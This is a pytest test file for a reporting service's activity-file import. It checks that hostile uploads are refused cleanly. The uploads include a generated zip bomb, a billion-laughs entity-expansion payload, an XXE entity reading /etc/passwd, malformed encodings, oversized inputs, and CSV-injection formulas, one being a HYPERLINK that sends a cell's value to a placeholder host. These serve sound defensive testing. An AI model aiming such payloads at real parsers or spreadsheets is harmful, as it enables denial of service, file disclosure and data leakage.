"""Hostile files: every one is refused with a 422 (BAD_USER_INPUT) and a plain message naming the
problem, never a 500, and never after unpacking or holding more than the import's bounds
(``importing.limits``). The files are made here, small: a zip bomb is a megabyte of zip."""

from __future__ import annotations

import csv
import functools
import io
import json
import random
import struct
import zipfile
from collections.abc import Callable
from typing import IO

import pytest

from bufdir_reporting.auth import SYSTEM
from bufdir_reporting.cli import CommandError, import_activities
from bufdir_reporting.importing import import_file, limits, reading, write_errors, xlsx_guard
from bufdir_reporting.importing.errors import ImportFileError
from bufdir_reporting.models import Activity, ActivityImport, Organization, OrganizationKind
from bufdir_reporting.resolvers.base.context import Context

from ..conftest import error_of

BASE = "/api/v1/activities/import"
HEADER = "organization_id,source_system,external_id,activity_type,category,status,location,occurred_at"
ROW = "org-tromso,fagsystem-famweb,x-1,group_activity,ungdom,completed,Tromsø,15.03.2024 10:30"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def csv_file(*lines: str) -> bytes:
    return "".join(line + "\r\n" for line in lines).encode()


def xlsx(sheet: bytes, strings: bytes | Callable[[IO[bytes]], None] | None = None, **parts: bytes) -> bytes:
    """A workbook of one sheet, part by part (sheet data and shared strings as given, or written
    by a function a piece at a time), so a part can hold what a spreadsheet program never writes."""
    content_types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        + (
            '<Override PartName="/xl/sharedStrings.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
            if strings is not None
            else ""
        )
        + "</Types>"
    )
    package_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>'
    )
    workbook = f'<workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets><sheet name="Aktiviteter" sheetId="1" r:id="rId1"/></sheets></workbook>'
    workbook_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", package_rels)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if isinstance(strings, bytes):
            archive.writestr("xl/sharedStrings.xml", strings)
        elif strings is not None:
            with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
                strings(part)
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def inline_row(number: int, cells: list[str]) -> str:
    return f'<row r="{number}">' + "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in cells) + "</row>"


def sheet(*rows: str, before: str = "", after: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<worksheet xmlns="{MAIN}"><sheetData>{"".join(rows)}</sheetData>{after}</worksheet>'.encode()


GOOD_ROWS = (inline_row(1, HEADER.split(",")), inline_row(2, ROW.split(",")))
ENTITIES = (
    '<!DOCTYPE lol [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


def shared_strings(*texts: str, before: str = "") -> bytes:
    items = "".join(f"<si><t>{text}</t></si>" for text in texts)
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<sst xmlns="{MAIN}">{items}</sst>'.encode()


@functools.cache
def zip_bomb() -> bytes:
    """A workbook whose one shared string, the first cell of its header, unpacks to 300 MiB: a
    megabyte of zip, written a MiB at a time. Made when a test first asks (``HOSTILE`` holds the
    function): made at import, every worker paid 0.8 s of CPU to collect the suite."""

    def strings(part: IO[bytes]) -> None:
        part.write(f'<sst xmlns="{MAIN}"><si><t>'.encode())
        chunk = b"a" * limits.MIB
        for _ in range(300):
            part.write(chunk)
        part.write(b"</t></si></sst>")

    return xlsx(sheet('<row r="1"><c t="s"><v>0</v></c></row>'), strings)


def declared(data: bytes, name: str, size: int) -> bytes:
    """The workbook with ``name``'s unpacked size in its zip directory (and local header) said to
    be ``size``: a directory can say anything."""
    name_bytes = name.encode()
    central = 0
    patched = bytearray(data)
    while (central := data.find(b"PK\x01\x02", central)) >= 0:
        length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + length] == name_bytes:
            struct.pack_into("<I", patched, central + 24, size)
            local = struct.unpack_from("<I", data, central + 42)[0]
            struct.pack_into("<I", patched, local + 22, size)
            return bytes(patched)
        central += 4
    raise AssertionError(f"no part {name}")


HOSTILE: dict[str, tuple[str, bytes | Callable[[], bytes], str]] = {
    "utf8-bom-then-invalid-bytes": (
        "a.csv",
        b"\xef\xbb\xbf" + csv_file(HEADER) + b"org-tromso,\xff\xfe\xfa\r\n",
        "marked as UTF-8 but line 2 is not UTF-8",
    ),
    "utf16-odd-byte-count": ("a.txt", csv_file(HEADER, ROW).decode().encode("utf-16") + b"\x00", "an odd number of bytes"),
    "utf16-lone-surrogate": (
        "a.txt",
        "\ufeff".encode("utf-16-le") + HEADER.encode("utf-16-le") + b"\r\x00\n\x00" + b"\x00\xd8a\x00",
        "marked as UTF-16 but line 2 is not UTF-16",
    ),
    "json-lines-invalid-utf8": (
        "a.jsonl",
        b'{"organization_id": "org-tromso"}\n{"location": "\xff\xfe"}\n',
        "line 2 is not UTF-8",
    ),
    "json-lines-number-of-5000-digits": ("a.jsonl", b'{"participant_count": ' + b"9" * 5000 + b"}\n", "a number too long"),
    "json-lines-nested-100000-deep": ("a.jsonl", b"[" * 100_000 + b"]" * 100_000 + b"\n", "nesting too deep"),
    "json-line-over-1-mib": (
        "a.jsonl",
        b'{"location": "' + b"x" * limits.MAX_LINE_BYTES + b'"}\n',
        "longer than 1,048,576 bytes",
    ),
    "csv-cell-over-the-csv-modules-limit": (
        "a.csv",
        csv_file(HEADER, ROW.replace("Tromsø", "x" * 200_000)),
        "line 2 has a cell of more than 32,767 characters",
    ),
    "csv-cell-over-excels-limit": (
        "a.csv",
        csv_file(HEADER, ROW.replace("Tromsø", "x" * 40_000)),
        "line 2 has a cell of more than 32,767 characters",
    ),
    "csv-header-of-a-million-columns": (
        "a.csv",
        csv_file(",".join(["c"] * 1_000_000), ROW),
        "line 1 has 1,000,000 cells; a row may have at most 16,384",
    ),
    "csv-row-of-20000-cells": ("a.csv", csv_file(HEADER, ROW + ",x" * 20_000), "line 2 has 20,008 cells"),
    "xlsx-entity-expansion": (
        "a.xlsx",
        xlsx(sheet('<row r="1"><c t="s"><v>0</v></c></row>'), shared_strings("&i;", before=ENTITIES)),
        "'xl/sharedStrings.xml' declares a DOCTYPE",
    ),
    "xlsx-external-entity": (
        "a.xlsx",
        xlsx(sheet(*GOOD_ROWS, before='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        "'xl/worksheets/sheet1.xml' declares a DOCTYPE",
    ),
    "xlsx-zip-bomb": ("a.xlsx", zip_bomb, "unpacks to 300.0 MiB from"),
    "xlsx-declaring-more-than-the-bound": (
        "a.xlsx",
        declared(xlsx(sheet(*GOOD_ROWS)), "xl/worksheets/sheet1.xml", 400 * limits.MIB),
        "the workbook unpacks to 400.0 MiB; an .xlsx may unpack to at most 320.0 MiB",
    ),
    "xlsx-part-unpacking-past-its-declared-size": (
        "a.xlsx",
        declared(xlsx(sheet(*GOOD_ROWS, after="<!--" + "x" * 100_000 + "-->")), "xl/worksheets/sheet1.xml", 50_000),
        "its part 'xl/worksheets/sheet1.xml' is damaged",
    ),
    "xlsx-cell-over-excels-limit": (
        "a.xlsx",
        xlsx(sheet(inline_row(1, HEADER.split(",")), inline_row(2, ["x" * 40_000]))),
        "a cell or text of more than 32,767 characters",
    ),
    "xlsx-shared-string-of-many-runs": (
        "a.xlsx",
        xlsx(sheet(*GOOD_ROWS), shared_strings("</t><r><t>" + "x" * 20_000 + "</t></r><r><t>" + "y" * 20_000)),
        "a cell or text of more than 32,767 characters",
    ),
    "xlsx-row-numbered-two-billion": (
        "a.xlsx",
        xlsx(sheet(*GOOD_ROWS, '<row r="2000000000"><c t="inlineStr"><is><t>x</t></is></c></row>')),
        "a row numbered 2000000000; rows are numbered 1 to 1,048,576",
    ),
    "xlsx-row-of-20000-cells": (
        "a.xlsx",
        xlsx(sheet(GOOD_ROWS[0], '<row r="2">' + "<c><v>1</v></c>" * 20_000 + "</row>")),
        "a row of more than 16,384 cells",
    ),
    "xlsx-300000-elements-outside-rows": (
        "a.xlsx",
        xlsx(sheet(*GOOD_ROWS, after="<extLst>" + "".join(f'<ext n="{n}"/>' for n in range(300_000)) + "</extLst>")),
        "more than 250,000 XML elements outside its rows",
    ),
    "xlsx-tag-of-2-mib": (
        "a.xlsx",
        xlsx(sheet(*GOOD_ROWS, after=f'<extLst a="{random.Random(0).randbytes(limits.MIB).hex()}"/>')),
        "a tag, comment or text running past 1,048,576 bytes",
    ),
    "xlsx-shared-string-index-it-does-not-have": (
        "a.xlsx",
        xlsx(sheet('<row r="1"><c t="s"><v>7</v></c></row>'), shared_strings("organization_id")),
        "not a readable .xlsx workbook: it is damaged",
    ),
    "xlsx-not-a-zip": ("a.xlsx", b"PK\x03\x04 this is no zip", "it is not a zip archive"),
}


@pytest.fixture
async def own(tokens):
    await Organization.create(id="org-tromso", name="Frivilligsentralen Tromsø", kind=OrganizationKind.VOLUNTEER_ORGANIZATION)
    return tokens.headers("org-tromso", subject="kari")


def assert_plain(response, expected: str) -> None:
    assert response.status_code == 422, response.text[:500]
    error = error_of(response)
    assert error["code"] == "BAD_USER_INPUT" and error["details"]["field"] == "file"
    assert expected in error["message"], error["message"]
    assert len(response.content) < 2_000, "an error echoes a bounded part of the file"
    for trace in ("Traceback", "Error(", "b'", "\\x", "Exception"):
        assert trace not in error["message"]


@pytest.mark.one_database
@pytest.mark.parametrize(("name", "content", "expected"), HOSTILE.values(), ids=HOSTILE.keys())
async def test_a_hostile_file_is_a_plain_422(client, own, name, content, expected):
    content = made(content)
    response = await client.post(BASE, files={"file": (name, content, "application/octet-stream")}, headers=own)
    assert_plain(response, expected)
    assert await ActivityImport.all().count() == 0


def made(content: bytes | Callable[[], bytes]) -> bytes:
    """A file's bytes, made now if ``HOSTILE`` holds the function that makes them."""
    return content if isinstance(content, bytes) else content()


GRAPHQL_CHECK = "mutation ($file: Upload!) { checkActivityImport(file: $file) { status } }"


@pytest.mark.one_database
@pytest.mark.parametrize("case", ["xlsx-zip-bomb", "csv-header-of-a-million-columns", "utf16-odd-byte-count"])
async def test_graphql_refuses_them_alike(client, own, case):
    name, content, expected = HOSTILE[case]
    content = made(content)
    response = await client.post(
        "/graphql",
        data={
            "operations": json.dumps({"query": GRAPHQL_CHECK, "variables": {"file": None}}),
            "map": '{"0": ["variables.file"]}',
        },
        files={"0": (name, content, "application/octet-stream")},
        headers=own,
    )
    error = response.json()["errors"][0]
    assert error["extensions"]["code"] == "BAD_USER_INPUT" and expected in error["message"], error
    assert len(response.content) < 2_000


@pytest.mark.one_database
@pytest.mark.parametrize("case", ["xlsx-entity-expansion", "csv-cell-over-the-csv-modules-limit", "json-lines-invalid-utf8"])
async def test_the_cli_refuses_them_in_one_line(settings, tmp_path, case):
    name, content, expected = HOSTILE[case]
    path = tmp_path / name
    path.write_bytes(made(content))
    with pytest.raises(CommandError) as refused:
        await import_activities(settings, path, dry_run=True)
    said = str(refused.value)
    assert said.startswith(f"{path}: ") and expected in said and "\n" not in said


def test_a_zip_bomb_is_refused_from_the_directory_before_anything_is_unpacked(tmp_path, monkeypatch):
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(zip_bomb())
    assert path.stat().st_size < 2 * limits.MIB

    def unpacked(*_: object, **__: object) -> None:
        raise AssertionError("a part was unpacked")

    monkeypatch.setattr(zipfile.ZipFile, "open", unpacked)
    with pytest.raises(ImportFileError, match=r"unpacks to 300\.0 MiB from .* more than 100 times its size"):
        reading.read(path)


def test_a_part_that_unpacks_past_its_declared_size_is_never_read_past_it(tmp_path, monkeypatch):
    """A directory that says less than the part holds: zipfile stops at the declared size and
    refuses the checksum, so the guard's counts hold for what is really there."""
    read: list[int] = []
    real = xlsx_guard._scan

    def counting(archive: zipfile.ZipFile, part: zipfile.ZipInfo) -> None:
        opened = archive.open(part)
        read.append(part.file_size)
        opened.close()
        real(archive, part)

    monkeypatch.setattr(xlsx_guard, "_scan", counting)
    path = tmp_path / "lying.xlsx"
    path.write_bytes(made(HOSTILE["xlsx-part-unpacking-past-its-declared-size"][1]))
    with pytest.raises(ImportFileError, match="is damaged"):
        reading.read(path)
    assert 50_000 in read


def test_openpyxl_parses_through_defusedxml():
    """openpyxl refuses entity declarations itself only when defusedxml is installed (its docs:
    "openpyxl does not guard against quadratic blowup or billion laughs xml attacks")."""
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML


def test_bounds_leave_a_real_workbook_alone(tmp_path):
    """The template's columns, as a spreadsheet program writes them (with styles, a dimension
    and shared strings), read as before."""
    import openpyxl

    workbook = openpyxl.Workbook()
    for line in (HEADER, ROW, ROW.replace("x-1", "x-2")):
        workbook.active.append(line.split(","))
    workbook.active["A1"].font = openpyxl.styles.Font(bold=True)
    path = tmp_path / "real.xlsx"
    workbook.save(path)
    table = list(reading.read(path).rows)
    assert [number for number, _ in table] == [2, 3] and table[0][1]["location"] == "Tromsø"


@pytest.mark.one_database
async def test_unknown_columns_are_named_ten_at_most(client, own):
    header = HEADER + "," + ",".join(f"extra-{n}" for n in range(5_000))
    response = await client.post(BASE, files={"file": ("a.csv", csv_file(header, ROW), "text/csv")}, headers=own)
    assert_plain(response, "unknown columns 'extra-0', 'extra-1'")
    assert "'extra-9' and 4,990 more; the columns are: organization_id" in error_of(response)["message"]


async def test_nul_in_a_cell_is_refused_by_the_dry_run_with_its_column(client, app, own):
    """A NUL passed the dry run and failed the commit ("Unexpected error"): PostgreSQL's text
    refuses it. The check now refuses what the write would, and shows it as ␀."""
    row = {**dict(zip(HEADER.split(","), ROW.split(","), strict=True)), "occurred_at": "2024-03-15T10:30:00"}
    lines = [
        json.dumps({**row, "location": "Trom\x00sø"}),
        json.dumps({**row, "external_id": "x-2", "participant_refs": ["p\x00"]}),
    ]
    for name, content in [
        ("a.csv", csv_file(HEADER, ROW.replace("Tromsø", "Trom\x00sø"))),
        ("a.jsonl", "\n".join(lines).encode()),
    ]:
        response = await client.post(BASE, files={"file": (name, content, "text/plain")}, headers=own)
        assert response.status_code == 201, response.text
        body = response.json()
        assert body["status"] == "refused"
        assert body["errors"][0] == {
            "line": 2 if name == "a.csv" else 1,
            "column": "location",
            "value": "Trom␀sø",
            "message": "may not contain NUL characters",
        }
        if name == "a.jsonl":
            assert body["errors"][1]["column"] == "participant_refs.0" and body["errors"][1]["value"] == "p␀"
        commit = await client.post(f"{BASE}/{body['import_id']}/commit", headers=own)
        assert commit.status_code == 409
    assert await Activity.all().count() == 0


async def test_what_the_dry_run_passes_at_the_edges_the_commit_writes(client, app, own):
    """Every value the check lets through at its bounds is stored: the longest texts (in
    characters, not bytes), the largest numbers, the first and last instants of the calendar."""
    edge = {
        "organization_id": "org-tromso",
        "source_system": "s" * 64,
        "external_id": "ø" * 128,
        "activity_type": "a" * 64,
        "category": "ungdom",
        "status": "s" * 32,
        "location": "å" * 128,
        "participant_count": 100_000,
        "hours": "100000.00",
        "participant_refs": ["ü" * 64],
    }
    lines = [
        {**edge, "occurred_at": "0001-01-01T00:00:00Z"},
        {**edge, "external_id": "last", "occurred_at": "9999-12-31T23:59:59.999999Z"},
    ]
    content = "\n".join(json.dumps(line) for line in lines).encode()
    checked = (await client.post(BASE, files={"file": ("edges.jsonl", content, "text/plain")}, headers=own)).json()
    assert checked["status"] == "checked", checked
    await client.post(f"{BASE}/{checked['import_id']}/commit", headers=own)
    await app.state.jobs.wait_idle()
    done = (await client.get(f"{BASE}/{checked['import_id']}", headers=own)).json()
    assert (done["status"], done["created"], done["failure"]) == ("done", 2, None)
    year_zero = {**edge, "occurred_at": "0001-01-01T00:00:00+01:00"}
    refused = (
        await client.post(BASE, files={"file": ("z.jsonl", json.dumps(year_zero).encode(), "text/plain")}, headers=own)
    ).json()
    assert refused["errors"] == [
        {
            "line": 1,
            "column": "occurred_at",
            "value": "0001-01-01T00:00:00+01:00",
            "message": "must fall between the years 1 and 9999 in UTC",
        }
    ]


async def test_an_upload_names_its_sheet_within_the_column(client, own):
    response = await client.post(
        BASE,
        files={"file": ("a.xlsx", xlsx(sheet(*GOOD_ROWS)), "application/octet-stream")},
        data={"sheet": "a\x00"},
        headers=own,
    )
    assert response.status_code == 422 and error_of(response)["details"]["field"] == "sheet"
    body = b"\r\n".join(
        [
            b"--limit",
            b'Content-Disposition: form-data; name="file"; filename="a\x00b.csv"',
            b"Content-Type: text/csv",
            b"",
            csv_file(HEADER, ROW),
            b"--limit--",
            b"",
        ]
    )
    multipart = {**own, "Content-Type": "multipart/form-data; boundary=limit"}
    named = await client.post(BASE, content=body, headers=multipart)
    assert named.status_code == 201, named.text
    assert named.json()["filename"] == "a␀b.csv"


@pytest.mark.one_database
async def test_the_errors_file_holds_the_files_texts_as_inert_cells(settings, tmp_path):
    """``import --errors`` writes refused values back out: one starting a formula gets a leading
    apostrophe (OWASP, "CSV injection"), the rest as written."""
    formula = '=HYPERLINK("http://example.invalid/?"&B5,"Se vedlegg")'
    row = {**dict(zip(HEADER.split(","), ROW.split(","), strict=True)), "occurred_at": "2024-03-15T10:30:00"}
    lines = [
        {**row, "category": formula},
        {**row, "external_id": "x-2", "participant_count": "-5", "status": "@SUM(1)", "location": "\tTromsø"},
        {**row, "external_id": "x-3", "+cmd": "1", "hours": "=1+1"},
    ]
    path = tmp_path / "a.jsonl"
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    report = await import_file(Context(settings=settings, principal=SYSTEM), path, dry_run=True)
    errors_file = tmp_path / "errors.csv"
    write_errors(report.errors, errors_file)
    with errors_file.open(encoding="utf-8-sig", newline="") as handle:
        written = {(cells[0], cells[1]): cells[2] for cells in list(csv.reader(handle, delimiter=";"))[1:]}
    assert written[("1", "category")] == "'" + formula
    assert (written[("2", "participant_count")], written[("2", "status")]) == ("'-5", "'@SUM(1)")
    assert (written[("3", "'+cmd")], written[("3", "hours")]) == ("1", "'=1+1")
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in written.values())


def test_rows_under_a_header_spread_to_column_xfd_are_read_by_their_named_columns(tmp_path, monkeypatch):
    """A header whose last column is XFD: openpyxl pads every row to it, and a million rows of
    16,384 cells, each read, would take an hour. Here a thousand."""
    converted: list[object] = []

    def cell(value: object) -> str:
        converted.append(value)
        return "" if value is None else str(value)

    monkeypatch.setattr(reading, "_cell", cell)
    wide = HEADER.split(",")
    header = '<row r="1">' + "".join(
        f'<c r="{column}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for column, name in zip(["A", "B", "C", "D", "E", "F", "G", "XFD"], wide, strict=True)
    )
    path = tmp_path / "wide.xlsx"
    path.write_bytes(xlsx(sheet(header + "</row>", '<row r="1001"/>')))
    assert list(reading.read(path).rows) == []
    assert len(converted) <= 8 * 1_000  # none at all now: a row is as wide as its own cells (polish5)
